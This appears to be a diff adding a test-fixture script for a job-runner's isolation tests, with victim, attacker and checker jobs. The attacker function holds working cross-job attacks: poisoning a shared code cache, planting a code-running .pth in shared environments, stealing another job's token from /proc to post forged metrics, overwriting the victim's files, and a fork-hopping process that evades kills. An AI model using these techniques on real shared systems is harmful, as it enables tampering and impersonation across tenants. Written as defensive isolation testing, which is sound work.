@@ -1,0 +1,195 @@
+"""Jobs that attack the jobs beside them (tests/test_walls.py runs them on a worker).
+
+Not a test module: it is the entrypoint of three jobs, each a snapshot of its own.
+
+- ``victim SIGNAL``: writes an output file in its directory and a file in its
+  checkpoint directory, says where it is, waits until the attacker is done, then says
+  whether both files are still what it wrote.
+- ``attack PLAN``: everything one job on a host may try against another job and against
+  the jobs after it, each printed as ``ATTACK <what> done|denied <detail>``: rewrite a
+  content in the worker's code cache, add a .pth to every shared environment, plant a
+  directory under the next job's name, read the victim's job token from /proc and post
+  metrics as the victim, read and write the victim's directory and checkpoint directory,
+  and write into the worker's own code and site-packages. Its code also holds a
+  ``worker/launch.py`` and a ``pip/__main__.py`` (which would mark ``hijacked-*`` if the
+  worker's launcher, root when walled, or the pip that builds its environment ran them),
+  and, walled, it leaves a process behind that forks and exits over and over (never long
+  at one pid) and beats in ``hopper-*`` while it lives.
+- ``check SIGNAL``: a later job that shares a content and an environment with the
+  victim: prints the content it runs, whether a planted .pth line ran in it, and what
+  was hijacked.
+"""
+
+import json
+import os
+import site
+import sys
+import time
+import urllib.request
+from pathlib import Path
+
+
+def say(*words: object) -> None:
+    print(*words, flush=True)
+
+
+def attempt(what: str, action) -> None:  # type: ignore[no-untyped-def]
+    try:
+        detail = action()
+        say(f"ATTACK {what} done {detail if detail is not None else ''}".rstrip())
+    except OSError as exc:
+        say(f"ATTACK {what} denied {type(exc).__name__}: {exc.strerror}")
+
+
+def victim(signal: Path) -> None:
+    import ddpqtestpkg  # from the job's requirements: the shared environment
+
+    Path("out.txt").write_text("the victim's output\n")
+    ckpt = Path(os.environ["DDPQ_CHECKPOINT_DIR"])
+    (ckpt / "victim.bin").write_bytes(b"the victim's weights\n")
+    say(f"VICTIM ready uid={os.getuid()} magic={ddpqtestpkg.MAGIC} cwd={Path.cwd()}")
+    deadline = time.monotonic() + 120
+    while not (signal / "attacker-done").exists() and time.monotonic() < deadline:
+        time.sleep(0.1)
+    out = Path("out.txt").read_text()
+    weights = (ckpt / "victim.bin").read_bytes()
+    extra = sorted(p.name for p in ckpt.iterdir() if p.name != "victim.bin")
+    intact = out == "the victim's output\n" and weights == b"the victim's weights\n" and not extra
+    say(f"VICTIM {'intact' if intact else 'tampered'} out={out!r} extra={extra}")
+
+
+def _environ(pid: str) -> dict[str, str]:
+    raw = Path(f"/proc/{pid}/environ").read_bytes()
+    return dict(kv.split("=", 1) for kv in raw.decode(errors="replace").split("\0") if "=" in kv)
+
+
+def attack(plan: dict) -> None:  # type: ignore[type-arg]
+    data_dir = Path.cwd().parent.parent  # DATA_DIR/jobs/job-N-xxxx
+    victim_id, next_id = str(plan["victim"]), int(plan["next"])
+
+    def cache() -> str:
+        digest = plan["digest"]
+        path = data_dir / "code-cache" / digest[:2] / digest
+        os.chmod(path, 0o644)
+        old = path.read_bytes()
+        new = old.replace(b"original", b"POISONED")
+        assert len(new) == len(old)
+        path.write_bytes(new)
+        return str(path)
+
+    def envs() -> str:
+        written = []
+        for env in (data_dir / "venvs").iterdir():
+            for sp in env.glob("lib/python*/site-packages"):
+                marker = str(Path(plan["signal"]) / "pth-ran-")
+                line = f"import os; open({marker!r} + os.environ.get('DDPQ_JOB_ID', 'x'), 'w')\n"
+                (sp / "zz_evil.pth").write_text(line)
+                written.append(str(sp))
+        if not written:
+            raise PermissionError(13, "no environment found to write")
+        return ",".join(written)
+
+    def plant() -> str:
+        planted = data_dir / "jobs" / f"job-{next_id}"
+        planted.mkdir()
+        (planted / "main.py").write_text("print('PLANTED code ran', flush=True)\n")
+        (planted.parent / f"job-{next_id}.snapshot").write_text(plan["next_snapshot"] + "\n")
+        return str(planted)
+
+    def token() -> str:
+        for proc in Path("/proc").iterdir():
+            if not proc.name.isdigit():
+                continue
+            try:
+                env = _environ(proc.name)
+            except OSError:
+                continue
+            if env.get("DDPQ_JOB_ID") == victim_id and "DDPQ_JOB_TOKEN" in env:
+                body = json.dumps({"items": [{"step": 999, "values": {"loss": 666.0}}]})
+                req = urllib.request.Request(
+                    f"{env['DDPQ_URL']}/jobs/{victim_id}/metrics",
+                    data=body.encode(),
+                    headers={
+                        "Authorization": f"Bearer {env['DDPQ_JOB_TOKEN']}",
+                        "Content-Type": "application/json",
+                    },
+                )
+                with urllib.request.urlopen(req, timeout=10) as r:
+                    return f"posted as the victim: {r.status}"
+        raise PermissionError(13, "no process of the victim's was readable")
+
+    def victim_dir() -> str:
+        found = [p for p in (data_dir / "jobs").iterdir() if p.name.startswith(f"job-{victim_id}-")]
+        if not found:
+            raise PermissionError(13, "the victim's directory was not found")
+        out = found[0] / "out.txt"
+        was = out.read_text()
+        out.write_text("the attacker's output\n")
+        return f"read {was!r} and rewrote it"
+
+    def victim_checkpoints() -> str:
+        ckpt = data_dir / "checkpoints" / f"job-{victim_id}"
+        names = sorted(p.name for p in ckpt.iterdir())
+        (ckpt / "planted.bin").write_bytes(b"the attacker's weights\n")
+        return f"listed {names} and wrote planted.bin"
+
+    def worker_code() -> str:
+        import worker  # the worker's own package, as the job's Python finds it
+
+        done = []
+        for where in (Path(worker.__file__).parent, Path(site.getsitepackages()[0])):
+            probe = where / f"zz_hostile_{os.getpid()}.py"
+            probe.write_text("# a job could have changed the worker's code here\n")
+            probe.unlink()  # proven; the checkout is shared with other tests
+            done.append(str(where))
+        return ",".join(done)
+
+    def hopper() -> str:
+        beat = Path(plan["signal"]) / f"hopper-{os.getuid()}"
+        if os.fork() != 0:
+            return str(beat)
+        os.setsid()
+        os.closerange(0, 3)  # its job's output ends without it
+        until = time.time() + 60  # not forever, should it get away in a test run
+        last = 0.0
+        while (now := time.time()) < until:
+            if now - last > 0.01:
+                beat.write_text(f"{now}\n")
+                last = now
+            if os.fork() != 0:
+                os._exit(0)  # the child goes on at a new pid, at once
+        os._exit(0)
+
+    if plan.get("hop"):
+        attempt("hopper", hopper)
+    attempt("cache", cache)
+    attempt("envs", envs)
+    attempt("plant", plant)
+    attempt("token", token)
+    attempt("victim-dir", victim_dir)
+    attempt("victim-checkpoints", victim_checkpoints)
+    attempt("worker-code", worker_code)
+
+
+def check(signal: Path) -> None:
+    import ddpqtestpkg
+    import lib  # the content the attacker rewrote in the cache
+
+    ran = sorted(p.name for p in signal.glob("pth-ran-*"))
+    hijacked = sorted(p.name for p in signal.glob("hijacked-*"))
+    # Seconds since each hopper last beat: a live one beats every 10 ms.
+    quiet = [round(time.time() - float(p.read_text() or 0), 1) for p in signal.glob("hopper-*")]
+    say(
+        f"CHECK value={lib.VALUE} magic={ddpqtestpkg.MAGIC} pth={ran} hijacked={hijacked} "
+        f"hoppers_quiet_s={quiet} cwd={Path.cwd().name}"
+    )
+
+
+if __name__ == "__main__":
+    mode, arg = sys.argv[1], sys.argv[2]
+    if mode == "victim":
+        victim(Path(arg))
+    elif mode == "attack":
+        attack(json.loads(arg))
+    else:
+        check(Path(arg))
